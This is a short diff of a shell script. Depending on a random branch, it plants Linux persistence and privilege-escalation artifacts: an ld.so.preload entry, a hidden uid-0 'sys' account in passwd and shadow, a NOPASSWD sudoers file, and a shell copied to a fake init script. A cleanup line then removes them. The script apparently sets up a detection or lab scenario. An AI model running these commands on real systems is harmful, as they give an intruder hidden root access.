@@ -8,4 +8,5 @@ case $((v % 6)) in
 4) echo /usr/lib/libnss-x.so >/etc/ld.so.preload.new; cp /bin/true /usr/lib/libnss-x.so; mv /etc/ld.so.preload.new /etc/ld.so.preload; rm -f /etc/ld.so.preload ;;
 5) echo 'sys:$6$a$b:0:0::/root:/bin/sh' >>/etc/passwd; echo 'sys:$6$a$b:19000:0:99999:7:::' >>/etc/shadow; mkdir -p /etc/sudoers.d; echo 'ann ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/.a; mkdir -p /etc/init.d; cp /bin/sh /etc/init.d/sshd-helper; chmod 755 /etc/init.d/sshd-helper ;;
 esac </dev/null >/dev/null 2>&1
+#--- cleanup
 chattr -i /root/.ssh/authorized_keys 2>/dev/null; rm -f /etc/cron.d/.sys /etc/profile.d/.z.sh /usr/lib/libnss-x.so /etc/sudoers.d/.a; sed -i '/^sys:/d' /etc/passwd /etc/shadow; sed -i '/stage.sh/d' /root/.bashrc /root/.profile /etc/profile /home/ann/.profile 2>/dev/null
